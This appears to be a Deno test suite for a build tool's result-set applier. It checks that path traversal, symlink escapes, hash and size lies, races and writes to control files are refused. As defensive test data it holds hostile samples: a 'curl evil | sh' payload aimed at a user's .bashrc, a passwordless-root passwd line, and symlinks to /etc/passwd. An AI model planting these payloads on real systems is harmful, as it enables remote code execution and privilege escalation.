import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { applyResultSet, ResultSetError } from "../master/apply.ts";
import { Beneath } from "../master/beneath.ts";
import { HashCache } from "../master/hash_cache.ts";
import type { ResultSet } from "../common/types.ts";

const enc = new TextEncoder();

function sha(bytes: Uint8Array): string {
  return createHash("sha256").update(bytes).digest("hex");
}

/** Every entry below `dir` (but the private directories of applies in flight). */
async function snapshot(dir: string): Promise<string[]> {
  const out: string[] = [];
  const walk = async (d: string) => {
    for await (const e of Deno.readDir(d)) {
      if (d === dir && e.name.startsWith(".termite-staging")) continue;
      const p = `${d}/${e.name}`;
      const info = await Deno.lstat(p);
      let extra = "";
      if (info.isFile) extra = sha(await Deno.readFile(p));
      if (info.isSymlink) extra = await Deno.readLink(p);
      out.push(`${p.slice(dir.length)} ${info.mode?.toString(8)} ${extra}`);
      if (info.isDirectory) await walk(p);
    }
  };
  await walk(dir);
  return out.sort();
}

async function withTree(fn: (root: string, blobs: Map<string, Uint8Array>) => Promise<void>) {
  const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "termite-apply-" }));
  await Deno.mkdir(`${root}/src/sub`, { recursive: true });
  await Deno.writeTextFile(`${root}/src/a.c`, "int a;\n");
  await Deno.writeTextFile(`${root}/src/old.o`, "old");
  await Deno.writeTextFile(`${root}/src/sub/x.h`, "#define X 1\n");
  await Deno.symlink("/etc", `${root}/escape`);
  const outside = await Deno.makeTempDir({ prefix: "termite-outside-" });
  await Deno.symlink(outside, `${root}/src/out`);
  try {
    await fn(root, new Map());
    // Nothing ever lands outside the root.
    assert.deepEqual([...Deno.readDirSync(outside)], []);
  } finally {
    await Deno.remove(root, { recursive: true });
    await Deno.remove(outside, { recursive: true });
  }
}

function fetcherFor(blobs: Map<string, Uint8Array>) {
  return async (hash: string, sink: { write(c: Uint8Array): Promise<void> }) => {
    const b = blobs.get(hash);
    if (!b) throw new Error(`no blob ${hash}`);
    await sink.write(b);
  };
}

Deno.test("applyResultSet() applies deletions, dirs, files and symlinks", async () => {
  await withTree(async (root, blobs) => {
    const obj = enc.encode("\x7fELF object");
    blobs.set(sha(obj), obj);
    const cache = await HashCache.open();
    const set: ResultSet = {
      deletions: [`${root}/src/old.o`, `${root}/src/sub`],
      dirs: [{ path: `${root}/build`, mode: 0o755 }, { path: `${root}/build/deep`, mode: 0o750 }],
      files: [
        { path: `${root}/build/a.o`, hash: sha(obj), size: obj.length, mode: 0o644, mtimeMs: 0 },
        {
          path: `${root}/build/deep/b.o`,
          hash: sha(obj),
          size: obj.length,
          mode: 0o755,
          mtimeMs: 0,
        },
      ],
      symlinks: [{ path: `${root}/build/link`, target: "a.o" }],
    };
    const out = await applyResultSet(set, {
      writableRoot: root,
      fetchBlob: fetcherFor(blobs),
      hashCache: cache,
    });
    assert.equal(await Deno.readTextFile(`${root}/build/a.o`), "\x7fELF object");
    assert.equal((await Deno.stat(`${root}/build/deep/b.o`)).mode! & 0o777, 0o755);
    assert.equal((await Deno.stat(`${root}/build/deep`)).mode! & 0o777, 0o750);
    assert.equal(await Deno.readLink(`${root}/build/link`), "a.o");
    await assert.rejects(Deno.stat(`${root}/src/old.o`), Deno.errors.NotFound);
    await assert.rejects(Deno.stat(`${root}/src/sub`), Deno.errors.NotFound);
    assert.equal(out.bytesFetched, obj.length, "the same blob is fetched once");
    assert.ok(out.touched.includes(`${root}/build/a.o`));
    assert.ok(out.touched.includes(`${root}/src`), "parents of changes are touched");
    assert.equal(cache.pathOf(sha(obj)) !== undefined, true);
    // No staging leftovers.
    assert.deepEqual([...Deno.readDirSync(root)].map((e) => e.name).sort(), [
      "build",
      "escape",
      "src",
    ]);
    await cache.close();
  });
});

Deno.test("applyResultSet() through one tree: each set's staging area is emptied by its journal, a directory moved aside is removed", async () => {
  await withTree(async (root, blobs) => {
    const cache = await HashCache.open();
    using tree = Beneath.open(root);
    const left = () => [...Deno.readDirSync(tree.privatePath)].map((e) => e.name);
    const emptied = async () => {
      for (let i = 0; i < 100 && left().length > 0; i++) {
        await new Promise((r) => setTimeout(r, 10));
      }
      return left();
    };
    const file = (path: string, text: string) => {
      const bytes = enc.encode(text);
      blobs.set(sha(bytes), bytes);
      return { path, hash: sha(bytes), size: bytes.length, mode: 0o644, mtimeMs: 0 };
    };
    const apply = (set: Partial<ResultSet>) =>
      applyResultSet({ deletions: [], dirs: [], files: [], symlinks: [], ...set }, {
        writableRoot: root,
        tree,
        fetchBlob: fetcherFor(blobs),
        hashCache: cache,
      });
    // Replaces a file (the old one swapped into the area) and deletes one.
    await apply({
      deletions: [`${root}/src/a.c`],
      files: [file(`${root}/src/old.o`, "new one"), file(`${root}/src/n.o`, "n")],
    });
    assert.equal(await Deno.readTextFile(`${root}/src/old.o`), "new one");
    await assert.rejects(Deno.stat(`${root}/src/a.c`), Deno.errors.NotFound);
    assert.deepEqual(left(), [], "what was replaced or deleted is gone at once");
    // Two sets at once: areas of their own.
    await Promise.all([
      apply({
        deletions: [`${root}/src/n.o`],
        files: [file(`${root}/src/old.o`, "newer")],
        symlinks: [{ path: `${root}/src/l`, target: "old.o" }],
      }),
      apply({ files: [file(`${root}/src/p.o`, "p"), file(`${root}/src/q.o`, "p")] }),
    ]);
    assert.deepEqual(left(), []);
    assert.equal(await Deno.readTextFile(`${root}/src/l`), "newer");
    assert.equal(await Deno.readTextFile(`${root}/src/q.o`), "p");
    // A directory deleted: moved into the area, then removed with what it holds.
    await apply({ deletions: [`${root}/src/sub`], files: [file(`${root}/src/m.o`, "m")] });
    await assert.rejects(Deno.stat(`${root}/src/sub`), Deno.errors.NotFound);
    assert.deepEqual(await emptied(), []);
    // A set that fails leaves the tree and the private directory as they were.
    const before = await snapshot(root);
    // A worker's blob that does not hold what its hash says.
    const lie = file(`${root}/src/z.o`, "other");
    blobs.set(lie.hash, enc.encode("lie!!"));
    await assert.rejects(apply({ files: [file(`${root}/src/y.o`, "y"), lie] }), ResultSetError);
    assert.deepEqual(await snapshot(root), before);
    assert.deepEqual(await emptied(), []);
    await cache.close();
  });
});

const hostile: [string, (root: string, hash: string, size: number) => unknown][] = [
  [
    "a path with ..",
    (r, h, s) => ({
      deletions: [],
      dirs: [],
      symlinks: [],
      files: [{ path: `${r}/src/../../x`, hash: h, size: s, mode: 0o644 }],
    }),
  ],
  [
    "an absolute path outside the root",
    (_r, h, s) => ({
      deletions: [],
      dirs: [],
      symlinks: [],
      files: [{ path: "/etc/termite-pwned", hash: h, size: s, mode: 0o644 }],
    }),
  ],
  [
    "a relative path",
    (_r, h, s) => ({
      deletions: [],
      dirs: [],
      symlinks: [],
      files: [{ path: "src/x.o", hash: h, size: s, mode: 0o644 }],
    }),
  ],
  [
    "a write through a symlink",
    (r, h, s) => ({
      deletions: [],
      dirs: [],
      symlinks: [],
      files: [{ path: `${r}/escape/termite-pwned`, hash: h, size: s, mode: 0o644 }],
    }),
  ],
  [
    "a write through a nested symlink",
    (r, h, s) => ({
      deletions: [],
      dirs: [],
      symlinks: [],
      files: [{ path: `${r}/src/out/pwned`, hash: h, size: s, mode: 0o644 }],
    }),
  ],
  [
    "a deletion through a symlink",
    (r) => ({ deletions: [`${r}/escape/passwd`], dirs: [], files: [], symlinks: [] }),
  ],
  ["deleting the root itself", (r) => ({ deletions: [r], dirs: [], files: [], symlinks: [] })],
  [
    "a wrong hash",
    (r, _h, s) => ({
      deletions: [],
      dirs: [],
      symlinks: [],
      files: [{ path: `${r}/ok.o`, hash: "0".repeat(64), size: s, mode: 0o644 }],
    }),
  ],
  [
    "a giant size",
    (r, h) => ({
      deletions: [],
      dirs: [],
      symlinks: [],
      files: [{ path: `${r}/ok.o`, hash: h, size: 2 ** 50, mode: 0o644 }],
    }),
  ],
  [
    "a lying size",
    (r, h, s) => ({
      deletions: [],
      dirs: [],
      symlinks: [],
      files: [{ path: `${r}/ok.o`, hash: h, size: s + 1, mode: 0o644 }],
    }),
  ],
  [
    "a file over a directory",
    (r, h, s) => ({
      deletions: [],
      dirs: [],
      symlinks: [],
      files: [{ path: `${r}/src/sub`, hash: h, size: s, mode: 0o644 }],
    }),
  ],
  [
    "a path listed twice",
    (r, h, s) => ({
      deletions: [],
      dirs: [{ path: `${r}/d`, mode: 0o755 }],
      symlinks: [],
      files: [{ path: `${r}/d`, hash: h, size: s, mode: 0o644 }],
    }),
  ],
  ["garbage", () => ({ deletions: "x" })],
  [
    "a NUL in a path",
    (r, h, s) => ({
      deletions: [],
      dirs: [],
      symlinks: [],
      files: [{ path: `${r}/a\0b`, hash: h, size: s, mode: 0o644 }],
    }),
  ],
];

for (const [name, make] of hostile) {
  Deno.test(`applyResultSet() refuses ${name}, tree untouched`, async () => {
    await withTree(async (root, blobs) => {
      const good = enc.encode("good bytes");
      const bad = enc.encode("other bytes");
      blobs.set(sha(good), good);
      blobs.set("0".repeat(64), bad);
      const cache = await HashCache.open();
      const before = await snapshot(root);
      // A valid change comes first in every set: it must not land either.
      const set = make(root, sha(good), good.length) as ResultSet;
      if (Array.isArray(set.files)) {
        set.files.unshift({
          path: `${root}/first.o`,
          hash: sha(good),
          size: good.length,
          mode: 0o644,
          mtimeMs: 0,
        });
      }
      await assert.rejects(
        applyResultSet(set, { writableRoot: root, fetchBlob: fetcherFor(blobs), hashCache: cache }),
        (err: Error) => err instanceof ResultSetError || err.message.includes("Blob"),
      );
      assert.deepEqual(await snapshot(root), before);
      await cache.close();
    });
  });
}

Deno.test("applyResultSet() writes inline contents without a fetch, and refuses wrong ones", async () => {
  await withTree(async (root) => {
    const obj = enc.encode("\x7fELF inline object");
    const cache = await HashCache.open();
    const set = (hash: string): ResultSet => ({
      deletions: [],
      dirs: [],
      files: [
        { path: `${root}/src/a.o`, hash, size: obj.length, mode: 0o644, mtimeMs: 0 },
        { path: `${root}/src/a2.o`, hash, size: obj.length, mode: 0o600, mtimeMs: 0 },
      ],
      symlinks: [],
    });
    let fetches = 0;
    const fetchBlob = () => {
      fetches++;
      return Promise.reject(new Error("no fetch expected"));
    };
    const out = await applyResultSet(set(sha(obj)), {
      writableRoot: root,
      fetchBlob,
      inline: (hash) => hash === sha(obj) ? obj : undefined,
      hashCache: cache,
    });
    assert.equal(fetches, 0);
    assert.equal(out.bytesFetched, obj.length);
    assert.deepEqual(await Deno.readFile(`${root}/src/a2.o`), obj);
    assert.equal((await Deno.stat(`${root}/src/a2.o`)).mode! & 0o777, 0o600);

    // Bytes that do not match their hash: refused, and the tree is left as it was.
    const before = await snapshot(root);
    const other = enc.encode("something else entirely");
    await assert.rejects(
      applyResultSet(set(sha(other)), {
        writableRoot: root,
        fetchBlob,
        inline: () => obj,
        hashCache: cache,
      }),
      (err) => err instanceof ResultSetError && /verification failed/.test(err.message),
    );
    assert.deepEqual(await snapshot(root), before);
    assert.equal(fetches, 0);
  });
});

// ---- Issue 11: symlinks, atomicity, control files, limits ----

function fileEntry(path: string, bytes: Uint8Array, mode = 0o644) {
  return { path, hash: sha(bytes), size: bytes.length, mode, mtimeMs: 0 };
}

function emptySet(): ResultSet {
  return { deletions: [], dirs: [], files: [], symlinks: [] };
}

/** Applies `set` with contents from `contents` (fetched); the error, if any. */
async function tryApply(
  root: string,
  set: unknown,
  contents: Uint8Array[] = [],
  extra: Partial<Parameters<typeof applyResultSet>[1]> = {},
): Promise<Error | null> {
  const blobs = new Map(contents.map((c) => [sha(c), c]));
  const cache = extra.hashCache ?? await HashCache.open();
  try {
    await applyResultSet(set, {
      writableRoot: root,
      fetchBlob: fetcherFor(blobs),
      hashCache: cache,
      ...extra,
    });
    return null;
  } catch (err) {
    return err as Error;
  } finally {
    if (!extra.hashCache) await cache.close();
  }
}

async function withOutside<T>(fn: (outside: string) => Promise<T>): Promise<T> {
  const outside = await Deno.realPath(await Deno.makeTempDir({ prefix: "termite-outside-" }));
  try {
    return await fn(outside);
  } finally {
    await Deno.remove(outside, { recursive: true });
  }
}

Deno.test("applyResultSet() refuses the $HOME/.bashrc attack (a symlink to a directory, then a link below it)", async () => {
  await withTree(async (root) => {
    await withOutside(async (home) => {
      await Deno.writeTextFile(`${home}/.bashrc`, "# mine\n");
      const payload = enc.encode("curl evil | sh\n");
      const before = await snapshot(root);
      const err = await tryApply(root, {
        deletions: [],
        dirs: [],
        files: [fileEntry(`${root}/payload.sh`, payload, 0o755)],
        symlinks: [
          { path: `${root}/a`, target: home },
          { path: `${root}/a/.bashrc`, target: `${root}/payload.sh` },
        ],
      }, [payload]);
      assert.ok(err instanceof ResultSetError, String(err));
      assert.match(err.message, /below .*\/a, a file or symlink of the same set/);
      assert.equal((await Deno.lstat(`${home}/.bashrc`)).isFile, true);
      assert.equal(await Deno.readTextFile(`${home}/.bashrc`), "# mine\n");
      assert.deepEqual(await snapshot(root), before);
    });
  });
});

Deno.test("applyResultSet() refuses a symlink to outside and links and directories below it (nothing appears outside)", async () => {
  await withTree(async (root) => {
    await withOutside(async (outside) => {
      const before = await snapshot(root);
      const err = await tryApply(root, {
        deletions: [],
        dirs: [],
        files: [],
        symlinks: [
          { path: `${root}/a`, target: outside },
          { path: `${root}/a/b`, target: "x" },
          { path: `${root}/a/c/d`, target: "y" },
        ],
      });
      assert.ok(err instanceof ResultSetError, String(err));
      assert.deepEqual([...Deno.readDirSync(outside)], []);
      assert.deepEqual(await snapshot(root), before);
    });
  });
});

Deno.test("applyResultSet() refuses a symlink to outside plus a file below it whole, with a clear error (no raw EISDIR, nothing left)", async () => {
  await withTree(async (root) => {
    await withOutside(async (outside) => {
      const passwd = enc.encode("root::0:0::/:/bin/sh\n");
      const before = await snapshot(root);
      const err = await tryApply(root, {
        deletions: [],
        dirs: [],
        files: [fileEntry(`${root}/a/passwd`, passwd)],
        symlinks: [{ path: `${root}/a`, target: outside }],
      }, [passwd]);
      assert.ok(err instanceof ResultSetError, String(err));
      assert.match(err.message, /^Refusing result set: /);
      assert.deepEqual(await snapshot(root), before);
      assert.deepEqual([...Deno.readDirSync(outside)], []);
    });
  });
});

for (const withDirEntry of [false, true]) {
  Deno.test(
    `applyResultSet() races: a set stalled in its fetch of d/x while another replaces d by a symlink to an outside 0700 dir writes nothing outside (${
      withDirEntry ? "with" : "without"
    } a mode for d), and undoes what it did`,
    async () => {
      await withTree(async (root) => {
        await withOutside(async (outside) => {
          await Deno.writeTextFile(`${outside}/secret`, "s3cret\n");
          await Deno.mkdir(`${root}/d`);
          await Deno.chmod(`${root}/d`, 0o755);
          await Deno.writeTextFile(`${root}/d/keep`, "keep\n");
          const x = enc.encode("\x7fELF slow object");
          const newA = enc.encode("int a = 2;\n");
          const fetching = Promise.withResolvers<void>();
          const gate = Promise.withResolvers<void>();
          const cache = await HashCache.open();
          const first = applyResultSet({
            deletions: [`${root}/src/old.o`],
            dirs: [
              { path: `${root}/fresh`, mode: 0o755 },
              ...(withDirEntry ? [{ path: `${root}/d`, mode: 0o755 }] : []),
            ],
            files: [
              fileEntry(`${root}/fresh/n.o`, newA),
              fileEntry(`${root}/src/a.c`, newA),
              fileEntry(`${root}/d/x`, x),
            ],
            symlinks: [],
          }, {
            writableRoot: root,
            hashCache: cache,
            inline: (hash) => hash === sha(newA) ? newA : undefined,
            fetchBlob: async (hash, sink) => {
              assert.equal(hash, sha(x));
              fetching.resolve();
              await gate.promise;
              await sink.write(x);
            },
          });
          first.catch(() => {}); // awaited below
          await fetching.promise;
          // Meanwhile another job's result replaces d by a symlink to the outside dir.
          await applyResultSet({
            deletions: [`${root}/d`],
            dirs: [],
            files: [],
            symlinks: [{ path: `${root}/d`, target: outside }],
          }, { writableRoot: root, hashCache: cache, fetchBlob: fetcherFor(new Map()) });
          const between = await snapshot(root);
          gate.resolve();
          await assert.rejects(first, ResultSetError);
          assert.deepEqual((await Array.fromAsync(Deno.readDir(outside))).map((e) => e.name), [
            "secret",
          ]);
          assert.equal((await Deno.stat(outside)).mode! & 0o7777, 0o700);
          assert.deepEqual(await snapshot(root), between, "the stalled set left nothing behind");
          assert.deepEqual(
            [...Deno.readDirSync(root)].filter((e) => e.name.startsWith(".termite-staging")),
            [],
          );
          await cache.close();
        });
      });
    },
  );
}

Deno.test("applyResultSet() undoes deletions, new directories and replaced files when a later entry fails in the tree", async () => {
  await withTree(async (root) => {
    const obj = enc.encode("\x7fELF");
    const newA = enc.encode("int a = 3;\n");
    await Deno.chmod(`${root}/src/sub`, 0o750);
    const before = await snapshot(root);
    const err = await tryApply(root, {
      deletions: [`${root}/src/old.o`, `${root}/src/sub`],
      dirs: [{ path: `${root}/build`, mode: 0o755 }, { path: `${root}/src`, mode: 0o700 }],
      files: [fileEntry(`${root}/build/deep/a.o`, obj), fileEntry(`${root}/src/a.c`, newA)],
      symlinks: [
        { path: `${root}/build/l`, target: "deep/a.o" },
        // Fails in the tree only: its parent is a symlink there.
        { path: `${root}/src/out/z`, target: "a" },
      ],
    }, [obj, newA]);
    assert.ok(err instanceof ResultSetError, String(err));
    assert.match(err.message, /src\/out\/z: .*symlink on the way/);
    assert.deepEqual(await snapshot(root), before);
  });
});

Deno.test("applyResultSet() refuses a directory entry over an existing symlink to outside (the outside mode is kept)", async () => {
  await withTree(async (root) => {
    const outside = await Deno.readLink(`${root}/src/out`);
    const modeBefore = (await Deno.stat(outside)).mode! & 0o7777;
    const before = await snapshot(root);
    const err = await tryApply(root, {
      ...emptySet(),
      dirs: [{ path: `${root}/src/out`, mode: 0o777 }],
    });
    assert.ok(err instanceof ResultSetError, String(err));
    assert.match(err.message, /would replace a symlink/);
    assert.equal((await Deno.stat(outside)).mode! & 0o7777, modeBefore);
    assert.deepEqual(await snapshot(root), before);
  });
});

Deno.test("applyResultSet() deletes a symlink to outside itself, never its target", async () => {
  await withTree(async (root) => {
    const outside = await Deno.readLink(`${root}/src/out`);
    await Deno.writeTextFile(`${outside}/precious`, "precious\n");
    try {
      assert.equal(await tryApply(root, { ...emptySet(), deletions: [`${root}/src/out`] }), null);
      await assert.rejects(Deno.lstat(`${root}/src/out`), Deno.errors.NotFound);
      assert.equal(await Deno.readTextFile(`${outside}/precious`), "precious\n");
    } finally {
      await Deno.remove(`${outside}/precious`);
    }
  });
});

Deno.test("applyResultSet() replaces a symlink to outside by a real directory when the set deletes it first", async () => {
  await withTree(async (root) => {
    const obj = enc.encode("\x7fELF");
    const err = await tryApply(root, {
      deletions: [`${root}/src/out`],
      dirs: [{ path: `${root}/src/out`, mode: 0o755 }],
      files: [fileEntry(`${root}/src/out/x.o`, obj)],
      symlinks: [],
    }, [obj]);
    assert.equal(err, null);
    assert.equal((await Deno.lstat(`${root}/src/out`)).isDirectory, true);
    assert.deepEqual(await Deno.readFile(`${root}/src/out/x.o`), obj);
  });
});

Deno.test("applyResultSet() refuses ..-ish and malformed deletions", async () => {
  await withTree(async (root) => {
    const before = await snapshot(root);
    for (
      const path of [
        `${root}/..`,
        `${root}/src/..`,
        `${root}/src/../..`,
        `${root}/.`,
        `${root}/src/`,
        `${root}//src`,
        `${root}/src/./a.c`,
        "",
        "..",
        root,
        "/",
      ]
    ) {
      const err = await tryApply(root, { ...emptySet(), deletions: [path] });
      assert.ok(err instanceof ResultSetError, `${JSON.stringify(path)}: ${err}`);
    }
    assert.deepEqual(await snapshot(root), before);
  });
});

Deno.test("applyResultSet() makes no hard links: every file written is its own inode", async () => {
  await withTree(async (root) => {
    const obj = enc.encode("\x7fELF shared bytes");
    await Deno.writeFile(`${root}/src/known.o`, obj);
    const cache = await HashCache.open();
    // The master knows a file holding these bytes (it wrote it): it is copied, not linked.
    cache.record(`${root}/src/known.o`, await Deno.stat(`${root}/src/known.o`), sha(obj));
    assert.equal(
      await tryApply(
        root,
        {
          ...emptySet(),
          files: [fileEntry(`${root}/one.o`, obj), fileEntry(`${root}/two.o`, obj)],
        },
        [],
        { hashCache: cache },
      ),
      null,
    );
    const inodes = new Set<number>();
    for (const name of ["src/known.o", "one.o", "two.o"]) {
      const info = await Deno.lstat(`${root}/${name}`);
      assert.equal(info.nlink, 1, name);
      inodes.add(info.ino!);
      assert.deepEqual(await Deno.readFile(`${root}/${name}`), obj);
    }
    assert.equal(inodes.size, 3);
    await cache.close();
  });
});

Deno.test("applyResultSet() never opens a FIFO where the hash cache knew a file (fetches instead)", async () => {
  await withTree(async (root) => {
    const obj = enc.encode("\x7fELF was here");
    await Deno.writeFile(`${root}/src/was.o`, obj);
    await Deno.utime(`${root}/src/was.o`, 1e9, 1e9);
    const cache = await HashCache.open();
    await cache.hash(`${root}/src/was.o`, await Deno.stat(`${root}/src/was.o`));
    await Deno.remove(`${root}/src/was.o`);
    const mkfifo = await new Deno.Command("mkfifo", { args: [`${root}/src/was.o`] }).output();
    assert.equal(mkfifo.code, 0);
    let fetched = 0;
    await applyResultSet({ ...emptySet(), files: [fileEntry(`${root}/new.o`, obj)] }, {
      writableRoot: root,
      hashCache: cache,
      fetchBlob: async (_hash, sink) => {
        fetched++;
        await sink.write(obj);
      },
    });
    assert.equal(fetched, 1);
    assert.deepEqual(await Deno.readFile(`${root}/new.o`), obj);
    await cache.close();
  });
});

Deno.test("applyResultSet() refuses to create, change or delete the master's own files", async () => {
  await withTree(async (root) => {
    await Deno.mkdir(`${root}/build/.cache`, { recursive: true });
    await Deno.writeTextFile(`${root}/build/.cache/hashes.json`, "{}");
    await Deno.writeTextFile(`${root}/.termite-socket`, "");
    await Deno.writeTextFile(`${root}/.termite-localrc`, "[]");
    const control = {
      paths: [`${root}/.termite-socket`, `${root}/.termite-localrc`, `${root}/build/.cache`],
      names: [".termite-socket"],
    };
    const rc = enc.encode(`[{"regexp": ".", "local": true}]`);
    const cases: [string, Partial<ResultSet>, RegExp][] = [
      [
        "writing .termite-localrc",
        { files: [fileEntry(`${root}/.termite-localrc`, rc)] },
        /localrc/,
      ],
      ["deleting .termite-socket", { deletions: [`${root}/.termite-socket`] }, /termite-socket/],
      [
        "a symlink as .termite-socket",
        { symlinks: [{ path: `${root}/.termite-socket`, target: "/tmp/x" }] },
        /termite-socket/,
      ],
      [
        "a .termite-socket in a subdirectory (wrappers look upwards)",
        { files: [fileEntry(`${root}/src/.termite-socket`, rc)] },
        /src\/\.termite-socket/,
      ],
      [
        "a staging name",
        { symlinks: [{ path: `${root}/.termite-staging-sync-1`, target: "/etc/passwd" }] },
        /\.termite-staging-sync-1/,
      ],
      [
        "a file in a staging directory",
        { files: [fileEntry(`${root}/.termite-staging-x/f0`, rc)] },
        /\.termite-staging-x/,
      ],
      [
        "writing into the cache directory",
        { files: [fileEntry(`${root}/build/.cache/hashes.json`, rc)] },
        /build\/\.cache/,
      ],
      ["deleting the cache directory", { deletions: [`${root}/build/.cache`] }, /build\/\.cache/],
      ["deleting its parent", { deletions: [`${root}/build`] }, /build\/\.cache/],
    ];
    const before = await snapshot(root);
    for (const [name, part, why] of cases) {
      const err = await tryApply(root, { ...emptySet(), ...part }, [rc], { control });
      assert.ok(err instanceof ResultSetError, `${name}: ${err}`);
      assert.match(err.message, /the master's own/, name);
      assert.match(err.message, why, name);
    }
    assert.deepEqual(await snapshot(root), before);
  });
});

Deno.test("applyResultSet() counts name lengths in UTF-8 bytes (NAME_BYTES_MAX) and refuses lone surrogates", async () => {
  await withTree(async (root) => {
    const obj = enc.encode("x");
    const before = await snapshot(root);
    for (
      const [name, why] of [
        ["é".repeat(200), /NAME_BYTES_MAX/],
        ["a".repeat(256), /NAME_BYTES_MAX/],
        ["😀".repeat(64), /NAME_BYTES_MAX/],
        ["bad\ud800name", /Unicode/],
      ] as const
    ) {
      const err = await tryApply(root, {
        ...emptySet(),
        files: [fileEntry(`${root}/${name}`, obj)],
      }, [
        obj,
      ]);
      assert.ok(err instanceof ResultSetError, String(err));
      assert.match(err.message, why);
    }
    // At the limit: 127 × "é" + "a" is 255 bytes.
    assert.equal(
      await tryApply(root, {
        ...emptySet(),
        files: [fileEntry(`${root}/${"é".repeat(127)}a`, obj)],
      }, [obj]),
      null,
    );
    assert.equal(before.length + 1, (await snapshot(root)).length);
  });
});

Deno.test("applyResultSet() refuses modes that are not integers in 0..0o7777", async () => {
  await withTree(async (root) => {
    const obj = enc.encode("x");
    const before = await snapshot(root);
    for (const mode of [-1, 1.5, 0o10000, NaN, Infinity, "644", null]) {
      for (const kind of ["file", "dir"]) {
        const set = kind === "file"
          ? { ...emptySet(), files: [{ ...fileEntry(`${root}/m.o`, obj), mode }] }
          : { ...emptySet(), dirs: [{ path: `${root}/m`, mode }] };
        const err = await tryApply(root, set, [obj]);
        assert.ok(err instanceof ResultSetError, `${kind} mode ${mode}: ${err}`);
        assert.match(err.message, /mode|bad/);
      }
    }
    assert.deepEqual(await snapshot(root), before);
  });
});

Deno.test("applyResultSet() takes RESULT_ENTRIES_MAX entries, the worker's limit too, and refuses one more by name", async () => {
  const { RESULT_ENTRIES_MAX } = await import("../common/types.ts");
  const sandbox = await import("../sandbox/result_set.ts");
  assert.equal(sandbox.RESULT_ENTRIES_MAX, RESULT_ENTRIES_MAX);
  await withTree(async (root) => {
    // The last entry is refused for itself (a bad hash), after the count passed.
    const set = (entries: number) => ({
      ...emptySet(),
      deletions: Array.from({ length: entries - 1 }, (_, i) => `${root}/gone${i}`),
      files: [{ path: `${root}/last.o`, hash: "bad", size: 1, mode: 0o644, mtimeMs: 0 }],
    });
    const atLimit = await tryApply(root, set(RESULT_ENTRIES_MAX));
    assert.match(String(atLimit), /bad hash/);
    const past = await tryApply(root, set(RESULT_ENTRIES_MAX + 1));
    assert.ok(past instanceof ResultSetError);
    assert.match(past.message, /200001 entries, more than RESULT_ENTRIES_MAX \(200000\)/);
  });
});
